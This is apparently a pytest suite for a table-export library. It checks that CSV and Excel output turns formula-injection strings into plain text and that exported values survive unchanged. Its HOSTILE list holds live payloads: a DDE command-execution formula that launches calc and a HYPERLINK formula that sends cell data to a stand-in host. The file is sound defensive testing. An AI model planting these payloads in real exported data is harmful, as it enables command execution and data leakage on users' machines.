"""Tables out: nothing in them runs, nothing in them is lost."""

import csv
import io
import sys
import time
import zipfile
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from kulan.errors import MissingExtraError, TooLargeError
from kulan.exchange.plain_text import writable
from kulan.exchange.safe_cells import original_text, safe_text, write_csv, write_xlsx

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "#REF!",
]
ANY_TEXT = st.text() | st.sampled_from(HOSTILE)


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_sheet(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", [text for text in HOSTILE if text != "#REF!"])
def test_a_formula_in_csv_becomes_text(text):
    _, (name,), (cell,) = [None, *read_csv(write_csv(pd.DataFrame({text: [text]})))]

    assert name.startswith("'")
    assert cell == f"'{writable(text)}"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_a_workbook_is_text_as_it_was_typed(text):
    sheet = read_sheet(write_xlsx(pd.DataFrame({text: [text]})))

    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == writable(text)
        assert cell.quotePrefix == (text != "#REF!")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_part_of_a_workbook_holds_a_formula(text):
    with zipfile.ZipFile(io.BytesIO(write_xlsx(pd.DataFrame({text: [text]})))) as parts:
        pages = [parts.read(name) for name in parts.namelist() if "worksheets/" in name]

    assert pages
    assert not any(b"<f>" in page or b"<f " in page or b"hyperlink" in page for page in pages)


@given(ANY_TEXT)
def test_every_text_comes_back_from_its_cell(text):
    assert original_text(safe_text(text)) == writable(text)


@given(st.lists(ANY_TEXT.filter(bool), min_size=1))
def test_every_text_comes_back_from_csv(texts):
    _, *rows = read_csv(write_csv(pd.DataFrame({"name": texts}, dtype=object)))

    assert [original_text(cell) for (cell,) in rows] == [writable(text) for text in texts]


@settings(max_examples=30, deadline=None)
@given(st.lists(ANY_TEXT.filter(bool), min_size=1, max_size=5))
def test_every_text_comes_back_from_a_workbook(texts):
    sheet = read_sheet(write_xlsx(pd.DataFrame({"name": texts}, dtype=object)))

    assert [cell.value for (cell,) in sheet["A2" : f"A{len(texts) + 1}"]] == [
        writable(text) for text in texts
    ]


def test_a_text_that_looks_like_a_numbered_character_stays_that_text_in_excel():
    book = write_xlsx(pd.DataFrame({"code": ["_x0041_ and _x41_"]}))

    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        assert b"_x005F_x0041_ and _x41_" in parts.read("xl/worksheets/sheet1.xml")


def test_numbers_stay_numbers():
    table = pd.DataFrame({"count": [-3], "share": [-0.25], "text": ["-12.5"]})

    assert read_csv(write_csv(table))[1] == ["-3", "-0.25", "-12.5"]
    sheet = read_sheet(write_xlsx(table))
    assert [sheet.cell(2, column).data_type for column in (1, 2, 3)] == ["n", "n", "s"]
    assert [sheet.cell(2, column).value for column in (1, 2, 3)] == [-3, -0.25, "-12.5"]


def test_an_identifier_of_eighteen_digits_loses_none():
    sheet = read_sheet(write_xlsx(pd.DataFrame({"id": [123456789012345678]})))

    assert sheet["A2"].value == "123456789012345678"


def test_every_kind_of_value_has_one_spelling():
    table = pd.DataFrame(
        {
            "a": [date(2026, 5, 1)],
            "b": [datetime(2026, 5, 1, 6, tzinfo=UTC)],
            "c": [("saiga", "khulan")],
            "d": [shapely.Point(60.25, 45)],
            "e": [None],
            "f": [np.nan],
            "g": [pd.NaT],
            "h": [True],
            "i": [np.inf],
            "j": [{"kulan", "argali"}],
        }
    )
    expected = [
        "2026-05-01",
        "2026-05-01T06:00:00+00:00",
        "saiga; khulan",
        "POINT (60.25 45)",
        "",
        "",
        "",
        "true",
        "inf",
        "argali; kulan",
    ]

    assert read_csv(write_csv(table))[1] == expected
    sheet = read_sheet(write_xlsx(table))
    assert [sheet.cell(2, place + 1).value or "" for place in range(10)] == expected


def test_the_same_table_gives_the_same_workbook_at_another_time():
    table = pd.DataFrame({"имя": ["сайгак", "=1"], "n": [1, 2]})

    first = write_xlsx(table)
    time.sleep(2.1)  # zip keeps times to two seconds

    assert write_xlsx(table) == first


def test_a_table_without_rows_keeps_its_headings():
    empty = pd.DataFrame({"name": [], "count": []})

    assert read_csv(write_csv(empty)) == [["name", "count"]]
    assert read_sheet(write_xlsx(empty)).max_row == 1


def test_a_sheet_is_named_by_what_a_sheet_may_be_called():
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(pd.DataFrame(), "[Куланы]: a/b?" * 4)))

    assert book.sheetnames == [("-Куланы-- a-b-" * 4)[:31]]


def test_what_a_sheet_cannot_hold_is_refused_with_the_way_out():
    with pytest.raises(TooLargeError, match=r"Row 2, column 1: .*Take the table as CSV"):
        write_xlsx(pd.DataFrame({"a": ["x" * 32_768]}))
    with pytest.raises(TooLargeError, match="1048576 rows and 1 columns"):
        write_xlsx(pd.DataFrame({"a": np.zeros(1_048_576)}))


def test_without_openpyxl_the_way_to_get_it_is_said(monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)

    with pytest.raises(MissingExtraError, match=r"kulan\[web\]"):
        write_xlsx(pd.DataFrame({"a": [1]}))


def test_columns_are_as_wide_as_what_stands_in_them_up_to_a_readable_width():
    sheet = read_sheet(write_xlsx(pd.DataFrame({"a": ["x"], "b": ["x" * 20], "c": ["x" * 900]})))

    assert [sheet.column_dimensions[name].width for name in "ABC"] == [10, 22, 50]
